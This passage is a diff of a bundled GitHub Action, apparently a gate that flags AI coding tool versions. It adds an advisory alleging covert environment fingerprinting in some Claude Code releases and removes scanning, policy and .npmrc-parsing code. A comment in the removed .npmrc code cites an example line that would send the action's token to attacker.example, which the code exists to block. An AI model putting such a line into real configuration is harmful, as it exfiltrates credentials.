@@ -11609,10 +11609,10 @@ __webpack_unused_export__ = Alias.Alias;
 __webpack_unused_export__ = identity.isAlias;
 __webpack_unused_export__ = identity.isCollection;
 __webpack_unused_export__ = identity.isDocument;
-__webpack_unused_export__ = identity.isMap;
+exports.jh = identity.isMap;
 __webpack_unused_export__ = identity.isNode;
 __webpack_unused_export__ = identity.isPair;
-__webpack_unused_export__ = identity.isScalar;
+exports.jn = identity.isScalar;
 __webpack_unused_export__ = identity.isSeq;
 __webpack_unused_export__ = Pair.Pair;
 __webpack_unused_export__ = Scalar.Scalar;
@@ -11620,13 +11620,13 @@ __webpack_unused_export__ = YAMLMap.YAMLMap;
 __webpack_unused_export__ = YAMLSeq.YAMLSeq;
 __webpack_unused_export__ = cst;
 __webpack_unused_export__ = lexer.Lexer;
-__webpack_unused_export__ = lineCounter.LineCounter;
+exports.HN = lineCounter.LineCounter;
 __webpack_unused_export__ = parser.Parser;
 __webpack_unused_export__ = publicApi.parse;
 __webpack_unused_export__ = publicApi.parseAllDocuments;
 exports.Tp = publicApi.parseDocument;
 __webpack_unused_export__ = publicApi.stringify;
-__webpack_unused_export__ = visit.visit;
+exports.YR = visit.visit;
 __webpack_unused_export__ = visit.visitAsync;
 
 
@@ -17773,1125 +17773,32 @@ var promises_ = __nccwpck_require__(51455);
 var external_node_path_ = __nccwpck_require__(76760);
 ;// CONCATENATED MODULE: external "node:util"
 const external_node_util_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:util");
-;// CONCATENATED MODULE: ./src/catalog/index.ts
-const same = (v) => v;
-const tools = [
+;// CONCATENATED MODULE: ./src/catalog/advisories.ts
+// The advisories behind `builtin:advisories`: evidence-backed bans, each a locked `fail` rule.
+const advisories = [
     {
-        id: 'claude-code',
-        name: 'Claude Code',
-        vendor: 'Anthropic',
-        homepage: 'https://www.anthropic.com/claude-code',
-        carriers: [
-            { ecosystem: 'npm', package: '@anthropic-ai/claude-code', kind: 'npm package', toolVersion: same },
-            {
-                ecosystem: 'npm',
-                package: '@anthropic-ai/claude-code-*',
-                kind: 'platform package',
-                toolVersion: same,
-            },
+        id: 'AITG-2026-0001',
+        title: 'Claude Code covert environment fingerprinting',
+        tool: 'claude-code',
+        versions: '>=2.1.91 <2.1.198',
+        firstClean: '2.1.198',
+        description: "Claude Code 2.1.91 through 2.1.197 contain a hidden check of the machine's proxy settings and " +
+            'timezone whose result marks the prompt sent to the model, without telling the user: covert ' +
+            'fingerprinting of the environment the tool runs in.',
+        evidence: 'Established by inspection of the published npm artifacts of @anthropic-ai/claude-code: the code is ' +
+            'absent in 2.1.90, present in 2.1.91, 2.1.112, 2.1.150, 2.1.196 and 2.1.197, and absent in 2.1.198; ' +
+            'the versions in between are assumed to carry it. Every carrier is covered: the platform packages, ' +
+            'the Agent SDK through the CLI it bundles, the VS Code extension, claude-code-action tags and commits, ' +
+            'the Homebrew cask, devcontainer features and the claude.ai installer.',
+        sources: [
+            'https://www.npmjs.com/package/@anthropic-ai/claude-code?activeTab=versions',
+            'npm registry: @anthropic-ai/claude-code 2.1.90, 2.1.91, 2.1.112, 2.1.150, 2.1.196, 2.1.197, 2.1.198 (published tarballs and native builds)',
+            'npm registry: @anthropic-ai/claude-agent-sdk packument, field claudeCodeVersion',
+            'github.com/anthropics/claude-code-action tags (CLI version pinned at each tag)',
         ],
+        published: '2026-11-24',
     },
 ];
-const catalog = {
-    tools,
-    tool: (id) => tools.find((t) => t.id === id),
-};
-
-;// CONCATENATED MODULE: ./src/detectors/index.ts
-/**
- * Every detector, one per file format. A new format is one module in this folder and one line
- * here.
- */
-const detectors = [];
-
-;// CONCATENATED MODULE: ./src/limits.ts
-const defaultLimits = {
-    maxFileBytes: 64 * 1024 * 1024,
-    maxFiles: 500_000,
-    maxDepth: 512,
-    maxComponentsPerFile: 1_000_000,
-};
-function limitsFromEnv(env, base = defaultLimits) {
-    const num = (name, fallback) => {
-        const raw = env[name];
-        if (raw === undefined || raw === '')
-            return fallback;
-        const n = Number(raw);
-        if (!Number.isSafeInteger(n) || n <= 0)
-            throw new Error(`${name}: "${raw}" is not a positive whole number`);
-        return n;
-    };
-    return {
-        maxFileBytes: num('AITG_MAX_FILE_BYTES', base.maxFileBytes),
-        maxFiles: num('AITG_MAX_FILES', base.maxFiles),
-        maxDepth: num('AITG_MAX_DEPTH', base.maxDepth),
-        maxComponentsPerFile: num('AITG_MAX_COMPONENTS_PER_FILE', base.maxComponentsPerFile),
-    };
-}
-
-;// CONCATENATED MODULE: ./src/sources/source.ts
-class SourceReadError extends Error {
-}
-/** Normalises a path relative to the root; returns null when it escapes the root. */
-function normalizeRelative(path) {
-    const parts = [];
-    for (const part of path.replace(/\\/g, '/').split('/')) {
-        if (part === '' || part === '.')
-            continue;
-        if (part === '..') {
-            if (parts.length === 0)
-                return null;
-            parts.pop();
-        }
-        else
-            parts.push(part);
-    }
-    return parts.join('/');
-}
-/** Directories never scanned, wherever they are. */
-function isSkippedPath(path) {
-    return /(^|\/)(node_modules|\.git)(\/|$)/.test(path);
-}
-
-;// CONCATENATED MODULE: ./src/util/text.ts
-// Decoding of file bytes into text: UTF-8 (with or without BOM) and UTF-16 with a BOM are read;
-// invalid UTF-8 and binary data are errors, so a lockfile that is not text fails closed.
-class DecodeError extends Error {
-    line;
-    constructor(message, line) {
-        super(message);
-        this.line = line;
-    }
-}
-const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: false });
-const utf16le = new TextDecoder('utf-16le', { fatal: true, ignoreBOM: false });
-const utf16be = new TextDecoder('utf-16be', { fatal: true, ignoreBOM: false });
-function decodeText(bytes) {
-    let text;
-    if (bytes.length >= 2 && bytes[0] === 0xff && bytes[1] === 0xfe) {
-        text = decodeWith(utf16le, bytes, 'UTF-16LE');
-    }
-    else if (bytes.length >= 2 && bytes[0] === 0xfe && bytes[1] === 0xff) {
-        text = decodeWith(utf16be, bytes, 'UTF-16BE');
-    }
-    else {
-        text = decodeWith(utf8, bytes, 'UTF-8');
-    }
-    const nul = text.indexOf('\u0000');
-    if (nul !== -1) {
-        throw new DecodeError('binary data (NUL byte) in a text file', lineAt(text, nul));
-    }
-    return text;
-}
-function decodeWith(decoder, bytes, name) {
-    try {
-        return decoder.decode(bytes);
-    }
-    catch {
-        // Find the first bad byte's line for a located error (UTF-8 only; UTF-16 rarely breaks).
-        let line;
-        if (name === 'UTF-8') {
-            const bad = firstInvalidUtf8(bytes);
-            if (bad >= 0) {
-                line = 1;
-                for (let i = 0; i < bad; i++)
-                    if (bytes[i] === 0x0a)
-                        line++;
-            }
-        }
-        throw new DecodeError(`not valid ${name} text`, line);
-    }
-}
-function firstInvalidUtf8(b) {
-    let i = 0;
-    while (i < b.length) {
-        const c = b[i];
-        let n;
-        if (c < 0x80)
-            n = 0;
-        else if (c >= 0xc2 && c <= 0xdf)
-            n = 1;
-        else if (c >= 0xe0 && c <= 0xef)
-            n = 2;
-        else if (c >= 0xf0 && c <= 0xf4)
-            n = 3;
-        else
-            return i;
-        if (i + n >= b.length && n > 0)
-            return i;
-        for (let k = 1; k <= n; k++)
-            if ((b[i + k] & 0xc0) !== 0x80)
-                return i;
-        i += n + 1;
-    }
-    return -1;
-}
-/** 1-based line number of a character offset. */
-function lineAt(text, offset) {
-    let line = 1;
-    let i = text.indexOf('\n');
-    while (i !== -1 && i < offset) {
-        line++;
-        i = text.indexOf('\n', i + 1);
-    }
-    return line;
-}
-
-;// CONCATENATED MODULE: ./src/engine.ts
-
-
-
-
-/** Which detectors read a path. */
-function detectorsFor(path, list = detectors) {
-    return list.filter((d) => d.matches(path));
-}
-/**
- * Runs every detector over every file it reads in a source and returns the located components
- * and the errors. Never throws for a file's content: a file that cannot be read or parsed becomes
- * an error entry naming it (the gate then fails closed).
- */
-async function inventory(source, options = {}) {
-    const limits = options.limits ?? defaultLimits;
-    const list = options.detectors ?? detectors;
-    const paths = await source.list();
-    const work = [];
-    for (const path of paths) {
-        if (options.only && !options.only.has(path))
-            continue;
-        const ds = detectorsFor(path, list);
-        if (ds.length > 0)
-            work.push({ path, detectors: ds });
-    }
-    const textCache = new Map();
-    const readText = (path) => {
-        const rel = normalizeRelative(path);
-        if (rel === null)
-            return Promise.resolve(null);
-        let p = textCache.get(rel);
-        if (!p) {
-            p = source
-                .read(rel, limits.maxFileBytes)
-                .then((b) => (b === null ? null : decodeText(b)))
-                .catch(() => null);
-            textCache.set(rel, p);
-        }
-        return p;
-    };
-    const results = new Array(work.length);
-    let next = 0;
-    const worker = async () => {
-        while (next < work.length) {
-            const i = next++;
-            results[i] = await scanFile(source, work[i].path, work[i].detectors, limits, readText);
-        }
-    };
-    await Promise.all(Array.from({ length: Math.max(1, options.concurrency ?? 8) }, worker));
-    const components = [];
-    const errors = [];
-    for (const r of results) {
-        for (const c of r.components)
-            components.push(c);
-        for (const e of r.errors)
-            errors.push(e);
-    }
-    return {
-        components: dedupeAndSort(components),
-        errors: errors.sort(compareErrors),
-        filesScanned: work.length,
-        files: work.map((w) => w.path),
-    };
-}
-async function scanFile(source, path, detectors, limits, readText) {
-    let bytes;
-    try {
-        bytes = await source.read(path, limits.maxFileBytes);
-    }
-    catch (e) {
-        const message = e instanceof SourceReadError ? e.message : `cannot be read: ${errorMessage(e)}`;
-        return { components: [], errors: [{ file: path, message }] };
-    }
-    if (bytes === null)
-        return { components: [], errors: [] };
-    let text;
-    let decodeError;
-    const components = [];
-    const errors = [];
-    for (const detector of detectors) {
-        if (!detector.binary && text === undefined && decodeError === undefined) {
-            try {
-                text = decodeText(bytes);
-            }
-            catch (e) {
-                decodeError = {
-                    file: path,
-                    ...(e instanceof DecodeError && e.line ? { line: e.line } : {}),
-                    message: e instanceof DecodeError ? e.message : errorMessage(e),
-                };
-                errors.push(decodeError);
-            }
-        }
-        if (!detector.binary && decodeError)
-            continue;
-        const input = { path, text: text ?? '', bytes, readFile: readText, limits };
-        try {
-            const result = await detector.detect(input);
-            if (result.components.length > limits.maxComponentsPerFile) {
-                errors.push({
-                    file: path,
-                    message: `${result.components.length} components exceed the limit of ${limits.maxComponentsPerFile} per file`,
-                });
-                continue;
-            }
-            for (const c of result.components)
-                components.push(c);
-            for (const err of result.errors)
-                errors.push(err);
-        }
-        catch (e) {
-            // A detector bug or a parser blowing up on hostile input: report it, located, never crash.
-            errors.push({ file: path, message: `${detector.id}: ${errorMessage(e)}` });
-        }
-    }
-    return { components, errors };
-}
-function errorMessage(e) {
-    if (e instanceof RangeError && /call stack/i.test(e.message))
-        return 'nesting too deep to parse';
-    if (e instanceof Error)
-        return e.message.split('\n')[0] ?? String(e);
-    return String(e);
-}
-function componentKey(c) {
-    return [
-        c.location.file,
-        c.location.line,
-        c.ecosystem,
-        c.name,
-        c.version ?? '',
-        c.spec ?? '',
-        c.alias ?? '',
-        c.source,
-    ].join('\u0000');
-}
-function dedupeAndSort(components) {
-    const seen = new Map();
-    for (const c of components) {
-        const k = componentKey(c);
-        if (!seen.has(k))
-            seen.set(k, c);
-    }
-    return [...seen.values()].sort(compareComponents);
-}
-function compareComponents(a, b) {
-    return (cmp(a.location.file, b.location.file) ||
-        a.location.line - b.location.line ||
-        cmp(a.ecosystem, b.ecosystem) ||
-        cmp(a.name, b.name) ||
-        cmp(a.version ?? '', b.version ?? ''));
-}
-function compareErrors(a, b) {
-    return cmp(a.file, b.file) || (a.line ?? 0) - (b.line ?? 0) || cmp(a.message, b.message);
-}
-function cmp(a, b) {
-    return a < b ? -1 : a > b ? 1 : 0;
-}
-
-// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
-var dist = __nccwpck_require__(38815);
-;// CONCATENATED MODULE: ./src/policy/builtin.ts
-const BUILTIN_NAMES = ['builtin:default', 'builtin:advisories', 'builtin:ai-coding-tools'];
-function isBuiltinName(ref) {
-    return BUILTIN_NAMES.includes(ref);
-}
-function builtinPolicy(name) {
-    switch (name) {
-        case 'builtin:default':
-        case 'builtin:advisories':
-            return {
-                version: 1,
-                settings: { unknownVersion: 'warn' },
-                rules: [
-                    {
-                        id: 'AITG-2026-0001',
-                        tool: 'claude-code',
-                        versions: '>=2.1.91 <2.1.198',
-                        action: 'fail',
-                        locked: true,
-                        reason: 'Claude Code 2.1.91–2.1.197 carry covert environment fingerprinting (AITG-2026-0001)',
-                    },
-                ],
-                exceptions: [],
-                sources: [name],
-            };
-        case 'builtin:ai-coding-tools':
-            return { version: 1, settings: { unknownVersion: 'warn' }, rules: [], exceptions: [], sources: [name] };
-    }
-}
-
-;// CONCATENATED MODULE: ./src/policy/load.ts
-
-
-
-
-/** A policy file that cannot be used: exit 2 with `file:line:column: message`. */
-class PolicyError extends Error {
-    file;
-    line;
-    column;
-    reason;
-    constructor(file, line, column, reason) {
-        super(`${file}:${line}:${column}: ${reason}`);
-        this.file = file;
-        this.line = line;
-        this.column = column;
-        this.reason = reason;
-    }
-}
-/** Loads a policy by path or built-in name, with every `extends` merged in. */
-async function loadPolicy(ref, _options = {}) {
-    if (isBuiltinName(ref))
-        return builtinPolicy(ref);
-    const file = (0,external_node_path_.resolve)(ref);
-    let text;
-    try {
-        text = await (0,promises_.readFile)(file, 'utf8');
-    }
-    catch (e) {
-        throw new PolicyError(ref, 1, 1, `cannot be read: ${e.message}`);
-    }
-    return parsePolicyText(ref, text, (0,external_node_path_.dirname)(file));
-}
-function parsePolicyText(file, text, _baseDir) {
-    const doc = (0,dist/* parseDocument */.Tp)(text, { prettyErrors: false, uniqueKeys: true });
-    if (doc.errors.length > 0) {
-        const err = doc.errors[0];
-        const pos = err.linePos?.[0];
-        throw new PolicyError(file, pos?.line ?? 1, pos?.col ?? 1, err.message.split('\n')[0]);
-    }
-    const data = doc.toJS({ maxAliasCount: 100 });
-    if (!data || typeof data !== 'object' || Array.isArray(data))
-        throw new PolicyError(file, 1, 1, 'a policy must be a mapping');
-    if (data.version !== 1)
-        throw new PolicyError(file, 1, 1, 'version: must be 1');
-    const rules = (Array.isArray(data.rules) ? data.rules : []);
-    const exceptions = (Array.isArray(data.exceptions) ? data.exceptions : []);
-    const settings = (data.settings ?? {});
-    return {
-        version: 1,
-        settings: { unknownVersion: settings.unknownVersion ?? 'warn' },
-        rules: rules.map((r) => ({ ...r, action: r.action ?? 'fail' })),
-        exceptions: exceptions.map((e) => ({ ...e, expires: String(e.expires) })),
-        sources: [file],
-    };
-}
-
-;// CONCATENATED MODULE: ./src/report.ts
-function buildReport(input) {
-    const active = input.findings.filter((f) => f.status !== 'removed');
-    const summary = {
-        filesScanned: input.filesScanned,
-        components: input.components,
-        failed: active.filter((f) => f.action === 'fail').length,
-        warned: active.filter((f) => f.action === 'warn').length,
-        passed: active.filter((f) => f.action === 'pass').length,
-    };
-    if (input.mode === 'diff') {
-        summary.introduced = input.findings.filter((f) => f.status === 'introduced' && f.action !== 'pass').length;
-        summary.removed = input.findings.filter((f) => f.status === 'removed').length;
-    }
-    return {
-        schemaVersion: 1,
-        mode: input.mode,
-        findings: input.findings,
-        errors: input.errors,
-        notices: input.notices,
-        summary,
-        policy: { sources: input.policySources },
-    };
-}
-/** The findings that fail the gate under a `fail-on` setting. */
-function gateFindings(report, failOn) {
-    if (failOn === 'never')
-        return [];
-    return report.findings.filter((f) => f.action === 'fail' &&
-        f.status !== 'removed' &&
-        (failOn === 'any' || report.mode !== 'diff' || f.status === 'introduced'));
-}
-/** Whether the gate fails: a failing finding, or an input that had to be scanned and could not be read. */
-function gateFails(report, failOn, gatingErrors = report.errors) {
-    if (failOn === 'never')
-        return false;
-    return gateFindings(report, failOn).length > 0 || gatingErrors.length > 0;
-}
-
-;// CONCATENATED MODULE: ./src/reporters/json.ts
-function renderJson(report) {
-    return JSON.stringify(report, null, 2) + '\n';
-}
-
-;// CONCATENATED MODULE: ./src/reporters/text.ts
-function where(f) {
-    return `${f.location.file}:${f.location.line}`;
-}
-function label(f) {
-    const s = f.action === 'fail' ? 'FAIL' : f.action === 'warn' ? 'WARN' : 'PASS';
-    return f.status ? `${s} ${f.status}` : s;
-}
-/** Human-readable scan report: one line a finding, then errors, notices and a summary line. */
-function renderScanText(report) {
-    const lines = [];
-    const order = { fail: 0, warn: 1, pass: 2 };
-    const findings = [...report.findings].sort((a, b) => order[a.action] - order[b.action] || where(a).localeCompare(where(b), 'en'));
-    for (const f of findings) {
-        lines.push(`${label(f)}  ${where(f)}  [${f.ruleId}] ${f.message}`);
-        if (f.exception)
-            lines.push(`      excepted until ${f.exception.expires}: ${f.exception.reason}`);
-    }
-    for (const e of report.errors) {
-        lines.push(`ERROR ${e.file}${e.line ? ':' + e.line : ''}${e.column ? ':' + e.column : ''}  ${e.message}`);
-    }
-    for (const n of report.notices) {
-        lines.push(`NOTE  ${n.origin ? `${n.origin.file}:${n.origin.line}  ` : ''}${n.message}`);
-    }
-    const s = report.summary;
-    const diff = report.mode === 'diff' ? `, ${s.introduced ?? 0} introduced, ${s.removed ?? 0} removed` : '';
-    lines.push(`${s.filesScanned} files scanned, ${s.components} components: ${s.failed} failed, ${s.warned} warned, ${s.passed} excepted${diff}, ${report.errors.length} errors`);
-    return lines.join('\n') + '\n';
-}
-function renderInventoryText(report) {
-    const lines = [];
-    for (const c of report.components) {
-        const version = c.version ?? `(${c.spec ?? 'unknown'})`;
-        const alias = c.alias ? ` as ${c.alias}` : '';
-        lines.push(`${c.location.file}:${c.location.line}  ${c.ecosystem}  ${c.name}@${version}${alias}  [${c.source}]`);
-    }
-    for (const e of report.errors) {
-        lines.push(`ERROR ${e.file}${e.line ? ':' + e.line : ''}  ${e.message}`);
-    }
-    lines.push(`${report.summary.filesScanned} files scanned, ${report.summary.components} components, ${report.errors.length} errors`);
-    return lines.join('\n') + '\n';
-}
-
-// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
-var npa = __nccwpck_require__(78056);
-var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
-// EXTERNAL MODULE: ./node_modules/semver/index.js
-var node_modules_semver = __nccwpck_require__(62088);
-var semver_default = /*#__PURE__*/__nccwpck_require__.n(node_modules_semver);
-// EXTERNAL MODULE: ./node_modules/packageurl-js/index.js
-var packageurl_js = __nccwpck_require__(87091);
-;// CONCATENATED MODULE: ./src/util/purl.ts
-
-/**
- * Builds the Package URL of a component. npm scopes become the purl namespace
- * (`pkg:npm/%40scope/name@1.0.0`); PyPI names are PEP 503-normalised by packageurl-js.
- * A null version is left out of the purl.
- */
-function purlFor(ecosystem, name, version) {
-    try {
-        switch (ecosystem) {
-            case 'npm':
-            case 'jsr': {
-                const slash = name.startsWith('@') ? name.indexOf('/') : -1;
-                const ns = slash > 0 ? name.slice(0, slash) : undefined;
-                const base = slash > 0 ? name.slice(slash + 1) : name;
-                return new packageurl_js.PackageURL(ecosystem, ns, base, version ?? undefined).toString();
-            }
-            case 'pypi':
-                return new packageurl_js.PackageURL('pypi', undefined, name, version ?? undefined).toString();
-            case 'vscode-extension': {
-                const dot = name.indexOf('.');
-                return new packageurl_js.PackageURL('vscode-extension', dot > 0 ? name.slice(0, dot) : undefined, dot > 0 ? name.slice(dot + 1) : name, version ?? undefined).toString();
-            }
-            case 'github-action': {
-                const [owner, repo, ...rest] = name.split('/');
-                return new packageurl_js.PackageURL('githubactions', owner, repo ?? name, version ?? undefined, undefined, rest.length ? rest.join('/') : undefined).toString();
-            }
-            case 'devcontainer-feature': {
-                // OCI ids are registry/namespace/name: keep them whole as a qualifier-free generic purl.
-                const i = name.lastIndexOf('/');
-                return new packageurl_js.PackageURL('generic', i > 0 ? 'devcontainer-feature/' + name.slice(0, i) : 'devcontainer-feature', i > 0 ? name.slice(i + 1) : name, version ?? undefined).toString();
-            }
-            case 'homebrew':
-                return new packageurl_js.PackageURL('homebrew', undefined, name, version ?? undefined).toString();
-            case 'installer':
-                return new packageurl_js.PackageURL('generic', 'installer', name, version ?? undefined).toString();
-        }
-    }
-    catch {
-        // Names from hostile files can be anything; never let purl construction throw.
-    }
-    return `pkg:generic/${encodeURIComponent(ecosystem)}/${encodeURIComponent(name)}${version ? '@' + encodeURIComponent(version) : ''}`;
-}
-
-;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
-// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
-// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
-// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
-// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
-// a pull request could use.
-
-
-const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
-/** `.npmrc` files are small; a larger one is not a config file. */
-const MAX_NPMRC_BYTES = 256 * 1024;
-/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
-const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
-/**
- * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
- * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
- * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
- * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
- */
-const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
-const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
-/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
-function parseNpmrc(text) {
-    const entries = [];
-    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
-    for (let i = 0; i < lines.length; i++) {
-        const line = lines[i].trim();
-        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
-            continue;
-        const eq = line.indexOf('=');
-        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
-        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
-        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
-            try {
-                const parsed = JSON.parse(value);
-                if (typeof parsed === 'string')
-                    value = parsed;
-            }
-            catch {
-                value = value.slice(1, -1);
-            }
-        }
-        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
-            value = value.slice(1, -1);
-        }
-        if (key !== '')
-            entries.push({ key, value, line: i + 1 });
-    }
-    return entries;
-}
-/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
-function expand(value, env, project) {
-    let missing = null;
-    let forbidden = null;
-    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
-        if (esc.length % 2 === 1)
-            return whole.slice(1);
-        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
-            forbidden ??= name;
-            return '';
-        }
-        const v = env[name];
-        if (v === undefined) {
-            if (!optional)
-                missing ??= name;
-            return esc;
-        }
-        return esc + v;
-    });
-    if (forbidden !== null)
-        return { forbidden };
-    if (missing !== null)
-        return { missing };
-    return { value: out };
-}
-/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
-function normalizeRegistry(raw) {
-    let url;
-    try {
-        url = new URL(raw.trim());
-    }
-    catch {
-        return null;
-    }
-    if (url.protocol !== 'http:' && url.protocol !== 'https:')
-        return null;
-    url.hash = '';
-    url.search = '';
-    if (!url.pathname.endsWith('/'))
-        url.pathname += '/';
-    return url.toString();
-}
-/** A registry URL fit for messages: no credentials, query or fragment. */
-function displayRegistry(registry) {
-    try {
-        const url = new URL(registry);
-        url.username = '';
-        url.password = '';
-        url.search = '';
-        url.hash = '';
-        return url.toString();
-    }
-    catch {
-        return '(invalid registry URL)';
-    }
-}
-function readOptional(path) {
-    try {
-        const buf = (0,external_node_fs_.readFileSync)(path);
-        if (buf.length > MAX_NPMRC_BYTES)
-            return null;
-        return buf.toString('utf8');
-    }
-    catch {
-        return null;
-    }
-}
-function envValue(env, name) {
-    const lower = name.toLowerCase();
-    for (const [k, v] of Object.entries(env))
-        if (k.toLowerCase() === lower && v !== undefined)
-            return v;
-    return undefined;
-}
-/**
- * Reads the npm configuration that decides where packages are looked up, in npm's order of
- * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
- * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
- * Never reads the machine's home directory unless `env` names it.
- */
-function loadNpmConfig(options) {
-    const { env } = options;
-    const errors = [];
-    const secrets = [];
-    const scopes = new Map();
-    const auth = new Map();
-    let registry = null;
-    const userPath = envValue(env, 'npm_config_userconfig') ??
-        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
-    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
-    // Lowest precedence first; later layers overwrite.
-    const layers = [
-        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
-        { text: projectText, project: true, file: '.npmrc' },
-    ];
-    for (const layer of layers) {
-        if (layer.text === null)
-            continue;
-        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
-            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
-            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
-            if (!isRegistry && !authKey)
-                continue;
-            const expanded = expand(raw, env, layer.project);
-            if ('forbidden' in expanded) {
-                // Only the repository's own file can be hostile; report it so the gate fails closed.
-                errors.push({
-                    file: layer.file,
-                    line,
-                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
-                });
-                continue;
-            }
-            if ('missing' in expanded)
-                continue; // npm would send the literal text; sending nothing is safer
-            const value = expanded.value;
-            if (isRegistry) {
-                const url = normalizeRegistry(value);
-                if (url === null) {
-                    if (layer.project)
-                        errors.push({
-                            file: layer.file,
-                            line,
-                            message: `${key} is not an http(s) URL; the setting is ignored`,
-                        });
-                    continue;
-                }
-                if (key === 'registry')
-                    registry = url;
-                else {
-                    const scope = key.slice(0, -':registry'.length).toLowerCase();
-                    if (SCOPE.test(scope))
-                        scopes.set(scope, url);
-                }
-            }
-            else if (authKey && value !== '') {
-                auth.set(key, value);
-                secrets.push(value);
-                if (authKey === '_auth')
-                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
-                if (authKey === '_password')
-                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
-            }
-        }
-    }
-    for (const [k, v] of Object.entries(env)) {
-        if (v === undefined)
-            continue;
-        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
-        if (m && SCOPE.test(m[1])) {
-            const url = normalizeRegistry(v);
-            if (url)
-                scopes.set(m[1].toLowerCase(), url);
-        }
-    }
-    const envRegistry = envValue(env, 'npm_config_registry');
-    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
-        registry = normalizeRegistry(envRegistry);
-    if (options.registry !== undefined) {
-        const url = normalizeRegistry(options.registry);
-        if (url === null)
-            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
-        registry = url;
-    }
-    for (const url of [registry, ...scopes.values()]) {
-        if (!url)
-            continue;
-        const u = new URL(url);
-        if (u.password)
-            secrets.push(decodeURIComponent(u.password));
-    }
-    return {
-        registry: registry ?? PUBLIC_REGISTRY,
-        scopes,
-        auth,
-        secrets: secrets.filter((s) => s.length >= 4),
-        errors,
-    };
-}
-/** The registry a package name is looked up in. */
-function registryFor(config, name) {
-    if (name.startsWith('@')) {
-        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
-        const url = config.scopes.get(scope);
-        if (url)
-            return url;
-    }
-    return config.registry;
-}
-/** Replaces every known credential in a message (defence in depth: messages are built without them). */
-function scrub(message, secrets) {
-    let out = message;
-    for (const s of secrets)
-        if (out.includes(s))
-            out = out.split(s).join('***');
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
-// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
-// would get now, by asking the registry the repository is configured for, the way npm does
-// (pacote.manifest: dist-tags, ranges and the `latest` preference of npm-pick-manifest).
-
-
-
-
-const OFFLINE_NOTE = 'offline: not resolved';
-/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
-const UNREACHABLE_AFTER = 3;
-const MAX_VERSION_LENGTH = 256;
-/**
- * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
- * null when the component is not the resolver's (pinned, not npm, not from a registry).
- */
-function registryRequest(c) {
-    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
-        return null;
-    let written = (c.spec ?? '').trim();
-    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
-    if (written.startsWith('npm:')) {
-        try {
-            const alias = npa_default()(written);
-            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
-                written = alias.subSpec.rawSpec;
-        }
-        catch {
-            return { reason: `spec "${c.spec}" is not a valid npm alias` };
-        }
-    }
-    const spec = written === '' ? 'latest' : written;
-    let parsed;
-    try {
-        parsed = npa_default().resolve(c.name, spec);
-    }
-    catch {
-        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
-    }
-    // Only registry specs: anything else (git, file, URL) would make pacote clone or download.
-    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
-        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
-    }
-    return { name: c.name, spec };
-}
-/** Runs tasks with at most `limit` in flight. */
-function limiter(limit) {
-    let active = 0;
-    const queue = [];
-    const next = () => {
-        if (active >= limit)
-            return;
-        const start = queue.shift();
-        if (start) {
-            active++;
-            start();
-        }
-    };
-    return (task) => new Promise((resolve, reject) => {
-        queue.push(() => {
-            task()
-                .then(resolve, reject)
-                .finally(() => {
-                active--;
